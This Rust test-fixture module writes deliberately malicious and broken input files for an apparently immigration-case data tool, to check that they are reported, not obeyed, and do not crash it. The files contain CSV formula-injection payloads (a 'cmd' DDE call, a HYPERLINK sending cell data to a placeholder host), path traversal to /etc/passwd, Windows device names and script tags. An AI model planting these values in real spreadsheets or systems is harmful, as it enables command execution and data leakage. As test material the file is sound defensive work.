//! Small files that try to do harm or are broken: they must be reported, never obeyed, and never stop a run.

use crate::Outcome;
use std::fs::{self, File};
use std::io::Write;
use std::path::Path;

/// An HTML page that calls itself a workbook, as many web systems export it.
const HTML: &str = "<html><head><meta charset=\"utf-8\"></head><body><table>\n<tr><th>applicant_id</th><th>test</th><th>test_date</th><th>listening</th>\
<th>reading</th><th>writing</th><th>speaking</th></tr>\n<tr><td>H-1</td><td>PTE Core</td><td>2025-05-01</td><td>80</td><td>80</td><td>85</td>\
<td>85</td></tr>\n</table><script>alert(1)</script></body></html>\n";

/// Ids and names that are formulas, paths, device names and markup.
const APPLICANTS: &str = "applicant_id,family_name,given_name,intended_province\r\n\
=cmd|' /C calc'!A0,\"=HYPERLINK(\"\"http://invalid.example/?x=\"\"&A1,\"\"open\"\")\",+1+1,ON\r\n\
../../etc/passwd,Traversée,-2+3,ON\r\n\
CON,Réservé,@SUM(1;2),ON\r\n\
nul.txt,<script>alert(1)</script>,\tTabulé,ON\r\n\
.hidden,Caché,\"deux\r\nlignes\",ON\r\n\
a/b\\c:d*e?f,Signes,\"virgule, et \"\"guillemets\"\"\",ON\r\n\
H-1,Ordinaire,Personne,ON\r\n\
h-1,Ordinaire,Autre,ON\r\n\
,Sans,Numéro,ON\r\n";

/// One job for each of them.
const EMPLOYMENT: &str = "applicant_id,employer,job_title,noc_code,noc_version,start_date,end_date,hours_per_week,pay,employment_type,province,country\r\n\
=cmd|' /C calc'!A0,=1+1,@formula,21232,2021,2024-09-02,2025-10-06,37.5,salary,employee,ON,Canada\r\n\
../../etc/passwd,Atelier,Dev,21232,2021,2024-09-02,2025-10-06,37.5,salary,employee,ON,Canada\r\n\
CON,Atelier,Dev,21232,2021,2024-02-30,2025-10-06,37.5,salary,employee,ON,Canada\r\n\
nul.txt,Atelier,Dev,99999,2021,2024-09-02,2025-10-06,-5,salary,employee,ON,Canada\r\n\
.hidden,Atelier,Dev,21232,2021,2024-09-02,2025-10-06,1e9,salary,employee,ON,Canada\r\n\
a/b\\c:d*e?f,Atelier,Dev,21232,2021,0000-00-00,9999-99-99,37.5,salary,employee,ON,Canada\r\n\
H-1,Atelier,Dev,21232,2021,2024-09-02,2025-10-06,37.5,salary,employee,ON,Canada\r\n";

/// Writes the files; `firm` is the firm's workbook, of which one is a broken copy.
pub fn write(folder: &Path, firm: &Path) -> Outcome {
    let whole = fs::read(firm)?;
    let two_thirds = whole.len() / 3 * 2;
    let mut lock = vec![0u8; 165];
    for (slot, byte) in lock.iter_mut().zip(b"\x0bA. Lawyer   ") {
        *slot = *byte;
    }
    let mut permits = b"applicant_id,permit_type,valid_from,valid_to\r\nH-1,pgwp,2024-01-01,2026-12-31\r\nH-1,\"unclosed,2024-01-01\r\nH-1,pg".to_vec();
    permits.extend([0, 0xff, 0xfe]);
    let files: [(&str, &[u8]); 11] = [
        ("applicants.csv", APPLICANTS.as_bytes()),
        ("employment.csv", EMPLOYMENT.as_bytes()),
        ("language export.xls", HTML.as_bytes()),
        (
            "truncated.xlsx",
            whole.get(..two_thirds).unwrap_or_default(),
        ),
        ("empty.csv", b""),
        ("empty.xlsx", b""),
        ("~$firm.xlsx", &lock),
        (
            ".~lock.firm.ods#",
            b",lawyer,desk-4,22.11.2026 08:00,file:///home/lawyer;",
        ),
        ("permits.csv", &permits),
        ("letter.pdf", b"%PDF-1.4\n%%EOF\n"),
        ("notes.txt", b"Call the client back on Monday.\r\n"),
    ];
    for (name, bytes) in files {
        File::create(folder.join(name))?.write_all(bytes)?;
    }
    Ok(())
}
